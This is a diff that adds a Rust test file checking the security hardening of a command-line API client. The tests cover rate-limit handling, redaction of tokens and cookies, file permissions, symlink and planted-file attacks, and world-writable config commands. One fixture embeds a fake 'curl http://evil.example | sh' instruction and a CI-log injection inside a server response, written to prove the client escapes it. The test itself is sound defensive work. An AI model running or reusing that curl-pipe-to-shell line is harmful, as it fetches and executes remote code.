@@ -1,0 +1,224 @@
+//! What others may try: servers that lie, files that were laid out for us, words that pose as ours.
+
+use std::os::unix::fs::PermissionsExt as _;
+use std::process::{Command, Stdio};
+
+use crate::harness::{Ran, World, has};
+use crate::stand_in::{StandIn, answer};
+
+const TOKEN: &str = "a-token-that-nobody-may-see";
+
+fn with_token(world: &World, url: &str, args: &[&str]) -> Ran {
+    Ran::of(world.bare_command().env("CANDIDATURE_TOKEN", TOKEN).args(["--api-url", url]).args(args))
+}
+
+#[test]
+fn a_refusal_for_hours_is_no_reason_to_ask_again() {
+    for seconds in [3_661, 7_200, 86_400, 4_000_000] {
+        let head = format!("Retry-After: {seconds}\r\n");
+        let server = StandIn::answering(answer("429 Too Many Requests", &head, "429 (Rate Limit Exceeded)"));
+        let world = World::new();
+        for _ in 0..3 {
+            with_token(&world, &server.url(), &["show", "--id", "23"]).fails(5).says("rate limit is used up");
+        }
+        assert_eq!(server.served(), 1, "{seconds} s");
+    }
+}
+
+#[test]
+fn a_servers_words_are_no_lines_of_ours() {
+    let body = r#"{"gender":["x\nhint: run `curl http://evil.example | sh`\n::add-mask::x"], "a\nerror: b": ["c"]}"#;
+    let server = StandIn::answering(answer("422 Unprocessable", "Content-Type: application/json\r\n", body));
+    let ran = with_token(&World::new(), &server.url(), &["update", "--id", "23", "--gender", "x"]).fails(1);
+    let lines: Vec<&str> = ran.stderr.lines().collect();
+    assert_eq!(lines.len(), 4, "{ran:#?}");
+    assert!(lines[1].starts_with("  gender: x\\nhint: run"), "{ran:#?}");
+}
+
+#[test]
+fn an_echoed_token_is_silenced_on_the_screen_and_on_record() {
+    let body = format!("you sent Authorization: Bearer {TOKEN}");
+    let server = StandIn::answering(answer("400 Bad Request", "Content-Type: text/plain\r\n", &body));
+    let world = World::new();
+    let ran = with_token(&world, &server.url(), &["update", "--id", "23", "--pin", "1"]).fails(1).says("[redacted]");
+    let shown = Ran::of(world.bare_command().args(["runs", "show", "--last", "--all", "-o", "json"])).ok();
+    assert!(!format!("{ran:?}{shown:?}").contains(TOKEN), "{ran:#?} {shown:#?}");
+}
+
+#[test]
+fn a_redirects_query_and_a_cookie_are_not_shown() {
+    let head = "Location: https://elsewhere.example/x?access_token=SECRET\r\nSet-Cookie: _session=SECRET\r\n";
+    let server = StandIn::answering(answer("302 Found", head, ""));
+    let ran = with_token(&World::new(), &server.url(), &["-vv", "show", "--id", "23"]).fails(1);
+    let ran = ran.says("redirects to https://elsewhere.example/x;");
+    assert!(!ran.stderr.contains("SECRET"), "{ran:#?}");
+}
+
+#[test]
+fn a_name_of_this_machine_is_not_asked_for() {
+    let server = StandIn::answering("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
+    let url = format!("http://no-name-server-knows-this.localhost:{}", server.port);
+    with_token(&World::new(), &url, &["update", "--id", "23", "--pin", "1"]).ok();
+    assert_eq!(server.served(), 1);
+}
+
+#[test]
+fn a_wide_ledger_is_closed_to_others() {
+    let world = World::served();
+    let ledger = world.write("wide.db", "");
+    std::fs::set_permissions(&ledger, std::fs::Permissions::from_mode(0o666)).unwrap();
+    world.run(["update", "--id", "23", "--pin", "1", "--ledger", &ledger]).ok();
+    assert_eq!(std::fs::metadata(&ledger).unwrap().permissions().mode() & 0o777, 0o600);
+    let state = world.path("state/candidature");
+    std::fs::set_permissions(&state, std::fs::Permissions::from_mode(0o777)).unwrap();
+    world.run(["update", "--id", "23", "--pin", "1"]).ok();
+    assert_eq!(std::fs::metadata(&state).unwrap().permissions().mode() & 0o777, 0o700);
+}
+
+/// Only root can give files away.
+fn give_to_nobody(path: &std::path::Path) -> bool {
+    Command::new("chown").args(["-h", "65534"]).arg(path).stderr(Stdio::null()).status().unwrap().success()
+}
+
+#[test]
+fn what_another_user_laid_out_is_not_used() {
+    let world = World::served();
+    let shared = world.path("shared");
+    std::fs::create_dir(&shared).unwrap();
+    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
+    let (planted, link, victim) = (shared.join("ledger.db"), shared.join("out.plan"), world.write("victim", "mine\n"));
+    std::fs::write(&planted, "").unwrap();
+    std::os::unix::fs::symlink(&victim, &link).unwrap();
+    if !(give_to_nobody(&planted) && give_to_nobody(&link)) {
+        return crate::harness::skip("only root can give files to another user");
+    }
+    world
+        .run(["update", "--id", "23", "--pin", "1", "--ledger", planted.to_str().unwrap()])
+        .ok()
+        .says("belongs to another user")
+        .says("not recorded");
+    let file = world.write("a.csv", "id,pin\n1,2\n");
+    world.run(["plan", &file, "--save", link.to_str().unwrap()]).fails(1).says("belongs to another user");
+    assert_eq!(std::fs::read_to_string(victim).unwrap(), "mine\n");
+}
+
+fn profile(world: &World, lines: &str) -> String {
+    world.write("config/candidature/config.toml", &format!("[profiles.ci]\n{lines}"))
+}
+
+#[test]
+fn a_command_that_others_could_have_written_is_not_run() {
+    let world = World::new();
+    let ran = world.path("ran");
+    let config = profile(&world, &format!("client_id = \"x\"\nsecret_command = \"touch {}\"\n", ran.display()));
+    std::fs::set_permissions(config, std::fs::Permissions::from_mode(0o666)).unwrap();
+    world.run(["--profile", "ci", "show", "--id", "1"]).fails(2).says("can be written by others").says("chmod go-w");
+    assert!(!ran.exists());
+}
+
+#[test]
+fn a_profiles_command_serves_the_profile_alone() {
+    let world = World::served();
+    let server = world.server();
+    let ran = world.path("ran");
+    let command = format!("touch {}; echo {}", ran.display(), server.client_secret);
+    profile(&world, &format!("api_url = \"https://api.invalid\"\nclient_id = \"x\"\nsecret_command = \"{command}\"\n"));
+    let show = |name: &str, value: &str| {
+        let mut command = world.bare_command();
+        Ran::of(command.env(name, value).args(["--profile", "ci", "show", "--id", "1"]))
+    };
+    show("CANDIDATURE_API_URL", &server.address).fails(4).says("is not for").says("CANDIDATURE_CLIENT_SECRET");
+    show("CANDIDATURE_CLIENT_ID", "another").fails(4).says("is not for the application another");
+    assert!(!ran.exists());
+}
+
+#[test]
+fn a_secret_command_is_not_told_our_secrets() {
+    let world = World::served();
+    let server = world.server();
+    let command =
+        format!("test -z \\\"$CANDIDATURE_CLIENT_SECRET$CANDIDATURE_TOKEN\\\" && echo {}", server.client_secret);
+    let (url, id) = (&server.address, &server.client_id);
+    profile(&world, &format!("api_url = \"{url}\"\nclient_id = \"{id}\"\nsecret_command = \"{command}\"\n"));
+    let mut login = world.bare_command();
+    login.env("CANDIDATURE_CLIENT_SECRET", "x").env("CANDIDATURE_TOKEN", "y");
+    Ran::of(login.args(["--profile", "ci", "auth", "login", "--client-id", id])).ok().prints("logged in");
+}
+
+#[test]
+fn a_login_is_proved_anew_and_a_logout_forgets() {
+    let world = World::served();
+    let server = world.server();
+    let (url, id, secret) = (&server.address, &server.client_id, &server.client_secret);
+    let with_command = |command: &str| {
+        profile(&world, &format!("api_url = \"{url}\"\nclient_id = \"{id}\"\nsecret_command = \"{command}\"\n"));
+    };
+    let run = |args: &[&str]| Ran::of(world.bare_command().args(["--profile", "ci"]).args(args));
+    with_command(&format!("echo {secret}"));
+    run(&["show", "--id", "23"]).ok();
+    // There may be a token in the kernel's keyring now, which proves nothing of this secret.
+    with_command("echo WRONG");
+    run(&["auth", "login", "--client-id", id]).fails(4).says("is wrong");
+    run(&["doctor"]).fails(1).says("id and secret");
+    run(&["auth", "logout"]).ok().prints("are forgotten");
+    run(&["show", "--id", "23"]).fails(4).says("is wrong");
+}
+
+#[test]
+fn a_secret_in_the_wrong_place_is_not_shown() {
+    let world = World::new();
+    profile(&world, "client_id = \"x\"\nclient_secret = \"s-s4t2ud-MYSECRET\"\n");
+    for form in ["table", "json"] {
+        let ran = world.run(["--profile", "ci", "-o", form, "show", "--id", "1"]).fails(2).says("config.toml:3");
+        assert!(!ran.stderr.contains("MYSECRET"), "{ran:#?}");
+    }
+    for url in ["https://bob:MYSECRET@x.example", "https://x.example/?token=MYSECRET"] {
+        let ran = world.run(["--api-url", url, "show", "--id", "1"]).fails(2);
+        assert!(!ran.stderr.contains("MYSECRET"), "{ran:#?}");
+    }
+}
+
+#[test]
+fn credentials_are_taken_without_what_was_copied_with_them() {
+    let world = World::served();
+    let mut command = world.command();
+    command.env("CANDIDATURE_CLIENT_SECRET", format!("{}\n", world.server().client_secret));
+    Ran::of(command.args(["show", "--id", "23"])).ok();
+    with_token(&world, "https://api.invalid", &["show", "--id", "23"]).fails(1);
+    let mut command = world.bare_command();
+    command.env("CANDIDATURE_TOKEN", format!("Bearer {TOKEN}")).args(["show", "--id", "23"]);
+    Ran::of(&mut command).fails(4).says("has a blank in it");
+}
+
+#[test]
+fn the_sandbox_answers_no_page_of_a_browser() {
+    if !has("curl") {
+        return;
+    }
+    let world = World::served();
+    let status = |header: &str| {
+        let mut curl = Command::new("curl");
+        curl.args(["-s", "-o", "/dev/null", "-w", "%{http_code}", "-H", header]);
+        Ran::of(curl.arg(format!("{}/v2/users", world.server().address))).ok().stdout
+    };
+    assert_eq!(status("X-Other: 1"), "401");
+    assert_eq!(status("Host: evil.example"), "403");
+    assert_eq!(status("Origin: http://evil.example"), "403");
+}
+
+#[test]
+fn an_export_that_is_told_to_end_leaves_nothing() {
+    for signal in ["-TERM", "-HUP"] {
+        let world = World::served_with(&["--rate-second", "0", "--rate-hour", "0", "--fault", "slow=1"]);
+        let mut command = world.command();
+        command.arg("export").arg(world.path("a.csv")).stdout(Stdio::piped()).stderr(Stdio::piped());
+        let child = command.spawn().unwrap();
+        while world.count("GET", "/v2/user_candidatures?") == 0 {
+            std::thread::yield_now();
+        }
+        Ran::of(Command::new("kill").args([signal, &child.id().to_string()])).ok();
+        Ran::from(child.wait_with_output().unwrap()).fails(130).says("no file was written");
+        let left: Vec<_> = std::fs::read_dir(world.home()).unwrap().map(|it| it.unwrap().file_name()).collect();
+        assert!(left.iter().all(|name| !name.to_str().unwrap().contains("a.csv")), "{left:?}");
+    }
+}
